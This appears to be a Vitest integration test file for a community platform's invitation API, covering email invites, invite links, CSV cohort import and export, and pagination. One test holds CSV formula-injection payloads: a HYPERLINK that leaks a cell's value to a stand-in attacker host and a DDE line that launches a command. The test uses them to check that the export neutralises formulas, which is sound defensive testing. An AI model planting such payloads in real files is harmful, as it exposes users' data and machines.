import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { invitations, mailMessages, users } from '../../db/schema/index.ts';
import { getTestApp, requester, type TestApp } from '../../test/app.ts';
import {
  createTestCommunity,
  createUser,
  latestEmailTo,
  signedInUser,
  signInAs,
} from '../../test/factories.ts';
import { multipartBody } from '../../test/uploads.ts';

let t: TestApp;
beforeAll(async () => {
  t = await getTestApp();
});
afterAll(async () => t.close());

const call = (...args: Parameters<ReturnType<typeof requester>>) => requester(t)(...args);
const db = () => t.app.deps.database.db;
const tokenOf = (link: string) => link.split('/invitations/')[1] ?? '';

describe('invitations by email', () => {
  it('invites existing and new people, reports members and repeats, and lets the invitee accept once', async () => {
    const leader = await signedInUser(t.app);
    const existing = await signedInUser(t.app);
    const member = await createUser(db());
    const community = await createTestCommunity(db(), [leader.user.id], {
      visibility: 'private',
      joinPolicy: 'invitation',
      members: [[member.id, 'member']],
    });
    const slug = community.slug;
    const newcomer = `newcomer-${Date.now()}@example.test`;
    const invited = await call('POST', `/api/communities/${slug}/invitations`, leader.cookie, {
      emails: [existing.user.email, newcomer.toUpperCase(), member.email],
      message: 'Join us for the rubric swap.',
    });
    expect(invited.statusCode).toBe(200);
    expect(invited.json().data.results).toEqual([
      { email: existing.user.email, status: 'invited' },
      { email: newcomer, status: 'invited' },
      { email: member.email, status: 'already_member' },
    ]);
    const again = await call('POST', `/api/communities/${slug}/invitations`, leader.cookie, {
      emails: [newcomer],
    });
    expect(again.json().data.results).toEqual([{ email: newcomer, status: 'already_invited' }]);

    const mail = await latestEmailTo(db(), existing.user.email);
    expect(mail.message?.textBody).toContain('Join us for the rubric swap.');
    const token = tokenOf(mail.link ?? '');
    const notification = (await call('GET', '/api/notifications', existing.cookie)).json().data[0];
    expect(notification.url).toBe(`/invitations/${token}`);

    // The private community is hidden, but the invitation shows what it is.
    expect((await call('GET', `/api/communities/${slug}`, existing.cookie)).statusCode).toBe(404);
    const view = (await call('GET', `/api/invitations/${token}`)).json().data;
    expect(view).toMatchObject({ status: 'valid', role: 'member', community: { slug } });

    const stranger = await signedInUser(t.app);
    const wrongPerson = await call('POST', `/api/invitations/${token}/accept`, stranger.cookie);
    expect(wrongPerson.statusCode).toBe(403);
    expect(wrongPerson.json().message).toContain(existing.user.email);
    expect((await call('POST', `/api/invitations/${token}/accept`)).statusCode).toBe(401);
    const accepted = await call('POST', `/api/invitations/${token}/accept`, existing.cookie);
    expect(accepted.statusCode).toBe(200);
    expect(accepted.json().data.slug).toBe(slug);
    expect((await call('POST', `/api/invitations/${token}/accept`, existing.cookie)).statusCode).toBe(409);
    expect((await call('GET', `/api/communities/${slug}`, existing.cookie)).json().data.viewer.role).toBe(
      'member',
    );
  });

  it('validates addresses and lets only leaders invite', async () => {
    const leader = await signedInUser(t.app);
    const member = await signedInUser(t.app);
    const community = await createTestCommunity(db(), [leader.user.id], {
      members: [[member.user.id, 'member']],
    });
    const url = `/api/communities/${community.slug}/invitations`;
    const bad = await call('POST', url, leader.cookie, { emails: ['not-an-email'], role: 'leader' });
    expect(bad.statusCode).toBe(400);
    expect(Object.keys(bad.json().fields)).toEqual(expect.arrayContaining(['emails.0', 'role']));
    expect((await call('POST', url, leader.cookie, { emails: [] })).statusCode).toBe(400);
    expect((await call('POST', url, member.cookie, { emails: ['a@example.test'] })).statusCode).toBe(403);
    expect((await call('GET', url, member.cookie)).statusCode).toBe(403);
    const rows = await db().select().from(invitations).where(eq(invitations.communityId, community.id));
    expect(rows).toHaveLength(0);
  });
});

describe('invitation links', () => {
  it('lets several people join by a link until it is revoked; a revoked or expired link says so', async () => {
    const leader = await signedInUser(t.app);
    const community = await createTestCommunity(db(), [leader.user.id], { joinPolicy: 'invitation' });
    const slug = community.slug;
    const created = await call('POST', `/api/communities/${slug}/invite-links`, leader.cookie, {
      expiresInDays: 7,
    });
    expect(created.statusCode).toBe(201);
    const { id, url } = created.json().data as { id: string; url: string };
    const token = tokenOf(url);
    const first = await signedInUser(t.app);
    const second = await signedInUser(t.app);
    expect((await call('POST', `/api/invitations/${token}/accept`, first.cookie)).statusCode).toBe(200);
    expect((await call('POST', `/api/invitations/${token}/accept`, second.cookie)).statusCode).toBe(200);
    const open = (await call('GET', `/api/communities/${slug}/invitations`, leader.cookie)).json().data;
    expect(open.find((i: { id: string }) => i.id === id)).toMatchObject({ email: null, uses: 2 });

    expect(
      (await call('DELETE', `/api/communities/${slug}/invitations/${id}`, leader.cookie)).statusCode,
    ).toBe(200);
    const third = await signedInUser(t.app);
    const refused = await call('POST', `/api/invitations/${token}/accept`, third.cookie);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toContain('withdrawn');
    expect((await call('GET', `/api/invitations/${token}`)).json().data.status).toBe('revoked');

    const expiring = await call('POST', `/api/communities/${slug}/invite-links`, leader.cookie, {});
    const expiringToken = tokenOf(expiring.json().data.url);
    await db()
      .update(invitations)
      .set({ expiresAt: new Date(Date.now() - 1000) })
      .where(eq(invitations.id, expiring.json().data.id));
    const late = await call('POST', `/api/invitations/${expiringToken}/accept`, third.cookie);
    expect(late.statusCode).toBe(409);
    expect(late.json().message).toContain('expired');
    expect((await call('GET', '/api/invitations/not-a-real-token-at-all-xyz')).statusCode).toBe(404);
    expect(
      (await call('POST', `/api/communities/${slug}/invite-links`, leader.cookie, { expiresInDays: 365 }))
        .statusCode,
    ).toBe(400);
  });
});

describe('cohort CSV', () => {
  const upload = (slug: string, cookie: string, content: Buffer | string, dryRun: boolean) => {
    const body = multipartBody('cohort.csv', Buffer.from(content), 'text/csv');
    return t.app.inject({
      method: 'POST',
      url: `/api/communities/${slug}/invitations/csv?dryRun=${dryRun}`,
      headers: { ...body.headers, cookie },
      payload: body.payload,
    });
  };

  it('previews each row, then invites the good ones and reports the rest', async () => {
    const leader = await signedInUser(t.app);
    const member = await createUser(db());
    const community = await createTestCommunity(db(), [leader.user.id], { members: [[member.id, 'member']] });
    const stamp = Date.now();
    const csv = [
      'Email,Name',
      `ana-${stamp}@example.test,Ana`,
      'not-an-email,Broken',
      `ANA-${stamp}@example.test,Ana again`,
      `${member.email},Already in`,
      `ben-${stamp}@example.test,Ben`,
    ].join('\n');
    const preview = await upload(community.slug, leader.cookie, csv, true);
    expect(preview.statusCode).toBe(200);
    expect(preview.json().data.rows.map((r: { line: number; status: string }) => [r.line, r.status])).toEqual(
      [
        [2, 'ok'],
        [3, 'invalid'],
        [4, 'duplicate'],
        [5, 'already_member'],
        [6, 'ok'],
      ],
    );
    expect(preview.json().data.invited).toBe(0);
    const before = await db().select().from(invitations).where(eq(invitations.communityId, community.id));
    expect(before).toHaveLength(0);

    const done = await upload(community.slug, leader.cookie, csv, false);
    expect(done.json().data.invited).toBe(2);
    const mails = await db()
      .select()
      .from(mailMessages)
      .where(eq(mailMessages.toAddress, `ben-${stamp}@example.test`));
    expect(mails).toHaveLength(1);
  });

  it('reports a line with a broken quoted field by its number and invites the good rows around it', async () => {
    const leader = await signedInUser(t.app);
    const community = await createTestCommunity(db(), [leader.user.id]);
    const stamp = Date.now();
    const csv = [
      'email,name',
      `"ana-${stamp}@example.test","Ana Silva"`,
      `bad-${stamp}@example.test,"Broken Quote`,
      '',
      `ben-${stamp}@example.test,Ben "Benny" Okafor`,
      `"cy-${stamp}@example.test"x,Cy`,
      `dee-${stamp}@example.test,Dee`,
    ].join('\r\n');
    const preview = await upload(community.slug, leader.cookie, csv, true);
    expect(preview.statusCode).toBe(200);
    const rows = preview.json().data.rows as {
      line: number;
      email: string;
      name: string;
      status: string;
      message: string;
    }[];
    expect(rows.map((row) => [row.line, row.status])).toEqual([
      [2, 'ok'],
      [3, 'unreadable'],
      [5, 'ok'],
      [6, 'unreadable'],
      [7, 'ok'],
    ]);
    expect(rows[0]).toMatchObject({ email: `ana-${stamp}@example.test`, name: 'Ana Silva' });
    expect(rows[1]?.message).toContain('a quote (") opens a field that does not close on this line');
    expect(rows[1]?.message).toContain(`bad-${stamp}@example.test,"Broken Quote`);
    expect(rows[2]).toMatchObject({ name: 'Ben "Benny" Okafor' });
    expect(rows[3]?.message).toContain('text follows a closing quote (") before the next comma');

    const done = await upload(community.slug, leader.cookie, csv, false);
    expect(done.statusCode).toBe(200);
    expect(done.json().data.invited).toBe(3);
    expect(done.json().data.rows.map((row: { status: string }) => row.status)).toEqual([
      'invited',
      'unreadable',
      'invited',
      'unreadable',
      'invited',
    ]);
    const open = await db().select().from(invitations).where(eq(invitations.communityId, community.id));
    expect(open.map((row) => row.email).sort()).toEqual([
      `ana-${stamp}@example.test`,
      `ben-${stamp}@example.test`,
      `dee-${stamp}@example.test`,
    ]);
  });

  it('keeps cohort names as written and neutralises formulas in the exported CSV', async () => {
    const leader = await signedInUser(t.app);
    await db().update(users).set({ displayName: '@Leader Formula' }).where(eq(users.id, leader.user.id));
    const member = await signedInUser(t.app);
    const community = await createTestCommunity(db(), [leader.user.id], {
      members: [[member.user.id, 'member']],
    });
    const stamp = Date.now();
    const names = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      'Ana Silva',
    ];
    const csv = [
      'email,name',
      ...names.map((name, i) => `p${i}-${stamp}@example.test,"${name.replaceAll('"', '""')}"`),
    ].join('\n');
    expect((await upload(community.slug, leader.cookie, csv, false)).json().data.invited).toBe(5);
    const stored = await db().select().from(invitations).where(eq(invitations.communityId, community.id));
    expect(stored.map((row) => row.name).sort()).toEqual([...names].sort());
    const listed = (
      await call('GET', `/api/communities/${community.slug}/invitations`, leader.cookie)
    ).json();
    expect(listed.data.map((row: { name: string }) => row.name).sort()).toEqual([...names].sort());

    const url = `/api/communities/${community.slug}/invitations/csv`;
    const exported = await call('GET', url, leader.cookie);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(exported.headers['content-disposition']).toBe(
      `attachment; filename="invitations-${community.slug}.csv"`,
    );
    const lines = exported.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe('Email,Name,Kind,Role,Status,Invited by,Sent (UTC),Expires (UTC),Uses');
    expect(lines).toHaveLength(6);
    const line = (i: number) => lines.find((text) => text.startsWith(`p${i}-${stamp}@example.test,`)) ?? '';
    expect(line(0)).toContain(
      `,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",Email invitation,Member,Open,'@Leader Formula,`,
    );
    expect(line(1)).toContain(",'+1+1,");
    expect(line(2)).toContain(`,'-2+3+cmd|' /C calc'!A0,`);
    expect(line(3)).toContain(",'@SUM(A1:A9),");
    expect(line(4)).toContain(',Ana Silva,');
    for (const text of lines.slice(1)) expect(text).toMatch(/,0$/);
    // In the language the page shows (the download link says which), headings and words alike.
    const dutch = (await call('GET', `${url}?lang=nl`, leader.cookie)).body
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(dutch[0]).toBe(
      'E-mailadres,Naam,Soort,Rol,Status,Uitgenodigd door,Verstuurd (UTC),Verloopt (UTC),Keer gebruikt',
    );
    expect(dutch.find((text) => text.startsWith(`p4-${stamp}@example.test,`))).toContain(
      ',Ana Silva,Uitnodiging per e-mail,Lid,Open,',
    );
    expect((await call('GET', `${url}?lang=xx`, leader.cookie)).statusCode).toBe(400);
    expect((await call('GET', url, member.cookie)).statusCode).toBe(403);
    expect((await call('GET', url)).statusCode).toBe(401);
  });

  it('refuses a wrong header, a binary file, an empty file and 10,000 rows, writing nothing', async () => {
    const leader = await signedInUser(t.app);
    const community = await createTestCommunity(db(), [leader.user.id]);
    const wrongHeader = await upload(community.slug, leader.cookie, 'mail,fullname\na@b.test,A', false);
    expect(wrongHeader.statusCode).toBe(400);
    expect(wrongHeader.json().message).toContain('header');
    const binary = await upload(
      community.slug,
      leader.cookie,
      Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0xff]),
      false,
    );
    expect(binary.statusCode).toBe(415);
    expect((await upload(community.slug, leader.cookie, '', false)).statusCode).toBe(400);
    const huge = ['email', ...Array.from({ length: 10_000 }, (_, i) => `p${i}@example.test`)].join('\n');
    const tooMany = await upload(community.slug, leader.cookie, huge, false);
    expect(tooMany.statusCode).toBe(400);
    expect(tooMany.json().message).toContain('2,000');
    const member = await createUser(db());
    const memberCookie = await signInAs(t.app, member.email);
    expect((await upload(community.slug, memberCookie, 'email\na@b.test', false)).statusCode).toBe(403);
    const rows = await db().select().from(invitations).where(eq(invitations.communityId, community.id));
    expect(rows).toHaveLength(0);
  });
});

describe('open invitations list', () => {
  it('pages through every open invitation of a 1,250-strong import, and refuses a bad cursor', async () => {
    const leader = await signedInUser(t.app);
    const community = await createTestCommunity(db(), [leader.user.id]);
    const expiresAt = new Date(Date.now() + 14 * 24 * 60 * 60 * 1000);
    const invitation = (i: number, createdAt?: Date) => ({
      communityId: community.id,
      tokenHash: `hash-${community.id}-${i}`,
      email: `cohort-${i}@example.test`,
      invitedBy: leader.user.id,
      expiresAt,
      ...(createdAt ? { createdAt } : {}),
    });
    // One statement: a thousand rows written in the same instant, so only the id tells them apart.
    await db()
      .insert(invitations)
      .values(Array.from({ length: 1000 }, (_, i) => invitation(i)));
    await db()
      .insert(invitations)
      .values(
        Array.from({ length: 250 }, (_, i) => invitation(1000 + i, new Date(Date.now() - (i + 1) * 1000))),
      );
    const link = await call('POST', `/api/communities/${community.slug}/invite-links`, leader.cookie, {});
    expect(link.statusCode).toBe(201);

    const url = `/api/communities/${community.slug}/invitations`;
    const first = await call('GET', url, leader.cookie);
    expect(first.statusCode).toBe(200);
    expect(first.json().data).toHaveLength(50);
    expect(first.json().total).toBe(1251);
    expect(first.json().data[0].id).toBe(link.json().data.id);

    const seen: { id: string; createdAt: string }[] = [];
    let cursor: string | null = '';
    let pages = 0;
    while (cursor !== null) {
      const query: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : '';
      const page = await call('GET', `${url}?limit=100${query}`, leader.cookie);
      expect(page.statusCode).toBe(200);
      seen.push(...page.json().data);
      cursor = page.json().nextCursor;
      pages += 1;
    }
    expect(pages).toBe(13);
    expect(new Set(seen.map((row) => row.id)).size).toBe(1251);
    const times = seen.map((row) => row.createdAt);
    expect(times).toEqual([...times].sort().reverse());

    // The oldest, far past the first 500, can be revoked and leaves the list.
    const oldest = seen.at(-1);
    expect(oldest).toMatchObject({ email: 'cohort-1249@example.test' });
    const revoked = await call('DELETE', `${url}/${oldest?.id}`, leader.cookie);
    expect(revoked.statusCode).toBe(200);
    expect((await call('GET', url, leader.cookie)).json().total).toBe(1250);

    for (const bad of [
      'not-a-cursor',
      Buffer.from(JSON.stringify(['2026-02-30T00:00:00.000000Z', oldest?.id])).toString('base64url'),
      Buffer.from(JSON.stringify(['2026-02-01T00:00:00.000000Z', 'x'])).toString('base64url'),
    ]) {
      const refused = await call('GET', `${url}?cursor=${bad}`, leader.cookie);
      expect(refused.statusCode).toBe(400);
      expect(refused.json().fields).toHaveProperty('cursor');
    }
    expect((await call('GET', `${url}?limit=101`, leader.cookie)).statusCode).toBe(400);
  });
});
